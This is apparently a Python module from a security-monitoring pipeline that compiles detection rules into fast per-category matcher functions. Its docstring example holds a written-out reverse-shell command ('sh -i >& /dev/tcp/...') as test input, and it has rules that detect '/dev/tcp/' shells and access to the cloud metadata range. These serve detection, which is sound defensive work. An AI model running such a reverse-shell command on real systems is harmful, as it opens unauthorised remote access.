"""Rule conditions compiled once into Python functions: no tree walking per event.

Every condition (a rule's, or a sequence step's) is a *predicate*. The compiler groups
the predicates by the event categories they can match (a condition that requires
``category: network`` can only match network events) and generates one function per
category. That function reads each field its predicates use once, into a local variable,
then tests every predicate with plain Python expressions (``in``, ``startswith``,
precompiled regexes, frozensets) and returns the indexes of those that matched. Per event
the cost is one dict lookup for the category plus the predicates of that category only.

>>> from pipeline.rules.language import Match, All
>>> matcher = compile_predicates([
...     All((Match("category", "equals", ("process",)),
...          Match("actor.cmdline", "contains", ("/dev/tcp/",)))),
...     Match("object_host", "cidr", ("169.254.0.0/16",)),
... ])
>>> matcher.match({"category": "process", "actor": {"cmdline": "sh -i >& /dev/tcp/1.2.3.4/4"}})
[0]
>>> matcher.match({"category": "network", "object": "169.254.169.254:80", "actor": {}})
[1]
>>> print(matcher.source["process"].splitlines()[0])
def _match_process(e):
"""

from __future__ import annotations

import ipaddress
import math
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any

from pipeline.rules.language import All, AnyOf, Condition, Match, Not, field_kind
from pipeline.schema.event import CATEGORIES, Event

_EMPTY: dict[str, Any] = {}
_DIGITS = re.compile("[0-9]+")
"""A port: ASCII digits (``str.isdigit`` takes other scripts' digits, ``int`` reads them)."""
_HOST_CACHE_MAX = 65_536


def _num(value: Any) -> float:
    """A field as a number (attributes are text); NaN, which compares false, if it is not."""
    if value.__class__ is int or value.__class__ is float:
        return float(value)
    try:
        return float(value)
    except (TypeError, ValueError):
        return math.nan


def _text(value: Any) -> str:
    if value is None:
        return ""
    return value if value.__class__ is str else str(value)


_hosts: dict[str, tuple[str, int | None]] = {}


def _split_host(obj: Any) -> tuple[str, int | None]:
    """host and port of an object: ``10.0.0.1:443``, ``[::1]:22``, ``https://h:8443/p``."""
    if obj is None:
        return "", None
    cached = _hosts.get(obj)
    if cached is not None:
        return cached
    text = str(obj)
    rest = text.split("://", 1)[1] if "://" in text else text
    rest = rest.split("/", 1)[0].rsplit("@", 1)[-1]
    port: int | None = None
    if rest.startswith("["):
        host, _, tail = rest[1:].partition("]")
        if tail.startswith(":") and _DIGITS.fullmatch(tail[1:]):
            port = int(tail[1:])
    elif rest.count(":") == 1:
        host, _, tail = rest.partition(":")
        port = int(tail) if _DIGITS.fullmatch(tail) else None
    else:
        host = rest
    if len(_hosts) >= _HOST_CACHE_MAX:
        _hosts.clear()
    _hosts[obj] = result = (host, port)
    return result


def _host(obj: Any) -> str:
    return _split_host(obj)[0]


def _port(obj: Any) -> int | None:
    return _split_host(obj)[1]


_BLANKS = " \t\n\r\f"
OWNED_LABEL = "owned_destinations"
"""The inventory label listing a sandbox's own upload destinations, comma-separated: a
host or bucket name (``acme-builds``, ``artifacts.acme.example``), or a domain with a
leading dot for every host under it (``.acme.example``)."""


def object_owned(e: Event) -> bool:
    """The ``object_owned`` field: the object's host is one of the destinations the
    sandbox's inventory record lists as its own (``labels.owned_destinations``).

    Labels come from the inventory, which operators write and the enrich stage checks
    against the event's tenant, never from the event: a sandbox cannot declare a
    destination its own. Case does not count; an empty entry matches nothing."""
    listed = (e.get("labels") or _EMPTY).get(OWNED_LABEL)
    if not listed:
        return False
    host = _host(e.get("object")).lower()
    if not host:
        return False
    return any(
        host == own or (own.startswith(".") and host.endswith(own)) for own in _owned(listed)
    )


@lru_cache(maxsize=1024)
def _owned(listed: str) -> tuple[str, ...]:
    """A label's destinations, trimmed and lowered, empty entries left out (parsed once
    per label text: a sandbox's label is the same on every event of it)."""
    return tuple(own for entry in listed.split(",") if (own := entry.strip(_BLANKS).lower()))


class _Cidr:
    """Is a text an IP address inside one of the networks? (cached per address)."""

    def __init__(self, networks: tuple[str, ...]) -> None:
        self.networks = [ipaddress.ip_network(n, strict=False) for n in networks]
        self.cache: dict[str, bool] = {}

    def __call__(self, text: str) -> bool:
        hit = self.cache.get(text)
        if hit is None:
            try:
                address = ipaddress.ip_address(text)
            except ValueError:
                hit = False
            else:
                hit = any(address in n for n in self.networks)
            if len(self.cache) >= _HOST_CACHE_MAX:
                self.cache.clear()
            self.cache[text] = hit
        return hit


def all_text(e: Event) -> str:
    """The ``text`` field: the command line, the object and the attribute values, one a
    line (empty ones left out)."""
    actor = e.get("actor") or _EMPTY
    attributes = e.get("attributes") or _EMPTY
    parts = (actor.get("cmdline"), e.get("object"), *attributes.values())
    return "\n".join(str(p) for p in parts if p)


def _raw_expr(name: str) -> str:
    """Python expression for a field's raw value in event ``e``."""
    if name == "text":
        return "_all_text(e)"
    if name == "object_host":
        return '_host(e.get("object"))'
    if name == "object_port":
        return '_port(e.get("object"))'
    if name == "object_owned":
        return "_owned(e)"
    if name.startswith("actor."):
        return f"_a.get({name[6:]!r})"
    if name.startswith("attributes."):
        return f"_at.get({name[11:]!r})"
    if name.startswith("labels."):
        return f"_lb.get({name[7:]!r})"
    return f"e.get({name!r})"


@dataclass
class _Gen:
    """Source of one category function and the constants it refers to."""

    namespace: dict[str, Any]
    locals_needed: dict[str, str] = field(default_factory=dict)
    """variable name -> the expression that computes it (ordered)."""
    fields: dict[str, int] = field(default_factory=dict)

    def const(self, value: Any) -> str:
        name = f"_c{len(self.namespace)}"
        self.namespace[name] = value
        return name

    def var(self, name: str, form: str) -> str:
        """A local holding field ``name`` in ``form``: raw, text, lower or number."""
        var = f"{form[0]}{self.fields.setdefault(name, len(self.fields))}"
        if var in self.locals_needed:
            return var
        raw = self.var(name, "raw") if form != "raw" else None
        if form == "raw":
            expr = _raw_expr(name)
        elif form == "text":
            expr = f"({raw} or '')" if field_kind(name) == "text" else f"_text({raw})"
        elif form == "lower":
            expr = f"{self.var(name, 'text')}.lower()"
        else:
            expr = f"_num({raw})"
        self.locals_needed[var] = expr
        return var

    def expr(self, cond: Condition) -> str:
        if isinstance(cond, All):
            return "(" + " and ".join(self.expr(c) for c in cond.items) + ")"
        if isinstance(cond, AnyOf):
            return "(" + " or ".join(self.expr(c) for c in cond.items) + ")"
        if isinstance(cond, Not):
            return f"(not {self.expr(cond.item)})"
        return self.match(cond)

    def match(self, m: Match) -> str:
        kind = field_kind(m.field)
        if m.op == "exists":
            raw = self.var(m.field, "raw")
            return f"({raw} is not None)" if m.values[0] else f"({raw} is None)"
        if m.op in ("gt", "gte", "lt", "lte"):
            symbol = {"gt": ">", "gte": ">=", "lt": "<", "lte": "<="}[m.op]
            return f"({self.var(m.field, 'number')} {symbol} {m.values[0]!r})"
        if m.op == "cidr":
            return f"{self.const(_Cidr(m.values))}({self.var(m.field, 'text')})"
        if kind != "text":
            raw = self.var(m.field, "raw")
            if len(m.values) == 1:
                return f"({raw} == {m.values[0]!r})"
            return f"({raw} in {self.const(frozenset(m.values))})"
        if m.op == "regex":  # nocase: the pattern matches either case (not lowered:
            # lowering it would turn \S into \s)
            var = self.var(m.field, "text")
            return f"({self.const(_search_any(m.values, m.nocase))}({var}) is not None)"
        values = tuple(v.lower() for v in m.values) if m.nocase else m.values
        var = self.var(m.field, "lower" if m.nocase else "text")
        return self._text_match(m.op, var, values)

    def _text_match(self, op: str, var: str, values: tuple[str, ...]) -> str:
        if op == "equals":
            if len(values) == 1:
                return f"({var} == {values[0]!r})"
            return f"({var} in {self.const(frozenset(values))})"
        if op == "contains":
            return "(" + " or ".join(f"{v!r} in {var}" for v in values) + ")"
        if op == "contains_all":
            return "(" + " and ".join(f"{v!r} in {var}" for v in values) + ")"
        return f"{var}.{op}({values!r})"  # startswith, endswith


def _search_any(patterns: tuple[str, ...], nocase: bool = False) -> Any:
    """One search for any of the patterns: joined into one alternation when they can be;
    a pattern with global inline flags (``(?i)`` not at the start once joined) cannot,
    and then each is searched in turn."""
    flags = re.IGNORECASE if nocase else 0
    try:
        return re.compile("|".join(f"(?:{p})" for p in patterns), flags).search
    except re.error:
        searches = [re.compile(p, flags).search for p in patterns]

        def search(text: str) -> Any:
            for one in searches:
                found = one(text)
                if found is not None:
                    return found
            return None

        return search


def categories_of(cond: Condition) -> frozenset[str] | None:
    """The categories a condition can match, or None when any category can."""
    if isinstance(cond, Match):
        if cond.field == "category" and cond.op == "equals" and not cond.nocase:
            return frozenset(str(v) for v in cond.values)
        return None
    if isinstance(cond, All):
        found = [c for c in (categories_of(i) for i in cond.items) if c is not None]
        return frozenset.intersection(*found) if found else None
    if isinstance(cond, AnyOf):
        parts = [categories_of(i) for i in cond.items]
        if any(p is None for p in parts):
            return None
        return frozenset().union(*(p for p in parts if p is not None))
    return None


@dataclass
class Matcher:
    """Predicates compiled per category. ``match(event)`` lists those that hold."""

    functions: dict[str, Callable[[Event], list[int]]]
    fallback: Callable[[Event], list[int]]
    source: dict[str, str]
    predicates: int

    def match(self, event: Event) -> list[int]:
        return self.functions.get(event.get("category"), self.fallback)(event)  # type: ignore[arg-type]

    def match_batch(self, events: list[Event]) -> list[list[int]]:
        functions, fallback = self.functions, self.fallback
        return [functions.get(e.get("category"), fallback)(e) for e in events]  # type: ignore[arg-type]


def _function(
    name: str, indexes: list[int], conditions: list[Condition]
) -> tuple[str, dict[str, Any]]:
    namespace: dict[str, Any] = {
        "_num": _num,
        "_text": _text,
        "_host": _host,
        "_port": _port,
        "_all_text": all_text,
        "_owned": object_owned,
        "_E": _EMPTY,
    }
    gen = _Gen(namespace)
    tests = [(i, gen.expr(conditions[i])) for i in indexes]
    lines = [f"def _match_{name}(e):", "    h = []"]
    uses = " ".join(gen.locals_needed.values())
    if "_a." in uses:
        lines.append('    _a = e.get("actor") or _E')
    if "_at." in uses:
        lines.append('    _at = e.get("attributes") or _E')
    if "_lb." in uses:
        lines.append('    _lb = e.get("labels") or _E')
    lines.extend(f"    {var} = {expr}" for var, expr in gen.locals_needed.items())
    for index, test in tests:
        lines.append(f"    if {test}:")
        lines.append(f"        h.append({index})")
    lines.append("    return h")
    return "\n".join(lines), namespace


def compile_predicates(conditions: list[Condition]) -> Matcher:
    """One function per category over the predicates that can match it."""
    wanted = [categories_of(c) for c in conditions]
    functions: dict[str, Callable[[Event], list[int]]] = {}
    sources: dict[str, str] = {}
    for category in [*sorted(CATEGORIES), "_other"]:
        indexes = [
            i
            for i, cats in enumerate(wanted)
            if cats is None or (category != "_other" and category in cats)
        ]
        source, namespace = _function(category, indexes, conditions)
        exec(compile(source, f"<rules:{category}>", "exec"), namespace)
        functions[category] = namespace[f"_match_{category}"]
        sources[category] = source
    fallback = functions.pop("_other")
    sources["_other"] = sources.pop("_other")
    return Matcher(functions, fallback, sources, len(conditions))
